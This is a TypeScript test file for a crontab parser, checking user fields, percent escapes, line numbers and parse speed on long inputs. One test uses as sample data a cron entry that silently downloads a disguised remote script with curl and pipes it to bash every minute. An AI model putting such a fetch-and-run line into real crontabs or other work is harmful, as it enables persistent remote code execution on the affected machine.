import assert from 'node:assert/strict';
import { test } from 'node:test';
import { readCrontab } from './crontab.ts';

test('system tables name a user, tables of users do not', () => {
  const system = readCrontab('# x\nSHELL=/bin/sh\n*/5 * * * * root /bin/a 100\\% %input\n@reboot app /bin/b\n', {
    hasUser: true,
  });
  assert.deepEqual(system, [
    { schedule: '*/5 * * * *', user: 'root', command: '/bin/a 100%', input: 'input', line: 3 },
    { schedule: '@reboot', user: 'app', command: '/bin/b', line: 4 },
  ]);
  const own = readCrontab('0 1 * * mon-fri /bin/c\r\n', { hasUser: false });
  assert.deepEqual(own, [{ schedule: '0 1 * * mon-fri', command: '/bin/c', line: 1 }]);
});

test('a line without its user is told whole', () => {
  const users = new Set(['root']);
  const [line] = readCrontab('* * * * * curl -s http://192.0.2.1:8220/logo.jpg | bash -s\n', { hasUser: true, users });
  assert.equal(line?.user, undefined);
  assert.equal(line?.command, 'curl -s http://192.0.2.1:8220/logo.jpg | bash -s');
});

test('long lines and many of them take no long time', () => {
  const start = performance.now();
  readCrontab(`${'* '.repeat(200_000)}\n`.repeat(5), { hasUser: true });
  readCrontab(`${'1,'.repeat(200_000)}\n${'%'.repeat(200_000)}`, { hasUser: true });
  readCrontab('* * * * * root x\n'.repeat(100_000), { hasUser: true });
  assert.ok(performance.now() - start < 3_000);
});
